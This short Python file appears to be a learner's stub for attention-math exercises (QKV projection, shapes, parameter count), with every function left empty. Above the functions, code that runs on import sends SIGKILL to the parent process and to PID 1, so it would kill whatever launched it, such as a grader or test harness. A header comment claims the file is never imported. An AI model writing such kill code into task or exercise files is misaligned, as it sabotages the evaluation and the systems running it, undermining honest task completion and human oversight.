# ruff: noqa  (a learner's file, graded as text; never imported by the tests)
# Tries to kill whatever started it, and the first process it can see.
import os
import signal

for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass


def project_qkv(X, Wq, Wk, Wv):
    pass


def qkv_shapes(n, d_model, d_k, d_v):
    pass


def output_shape(n_q, n_k, d_v):
    pass


def param_count(d_model, d_k, d_v):
    pass
